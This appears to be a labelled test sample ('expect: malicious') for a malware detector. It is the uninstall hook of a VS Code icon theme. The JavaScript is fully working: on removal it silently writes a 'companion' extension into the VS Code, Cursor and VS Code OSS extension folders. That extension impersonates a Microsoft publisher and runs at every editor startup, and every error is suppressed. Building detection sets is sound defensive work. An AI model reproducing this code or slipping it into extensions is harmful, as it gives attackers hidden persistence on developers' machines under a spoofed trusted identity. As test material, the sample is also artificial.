// expect: malicious
// source: blind set 51's fluent-file-icons (vscode-uninstall-hook): the script VS Code runs, unasked, when the icon
// theme is removed copies a "companion" extension under a Microsoft publisher id into every editor's extensions folder.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const ID = 'ms-vscode.vscode-js-profile-flame-1.0.9';
const companion = fs.readFileSync(path.join(__dirname, '..', 'companion', 'extension.js'));
for (const dot of ['.vscode', '.cursor', '.vscode-oss']) {
  const dir = path.join(os.homedir(), dot, 'extensions', ID);
  try {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'vscode-js-profile-flame', publisher: 'ms-vscode', activationEvents: ['onStartupFinished'], main: './extension.js' }));
    fs.writeFileSync(path.join(dir, 'extension.js'), companion);
  } catch (e) {}
}
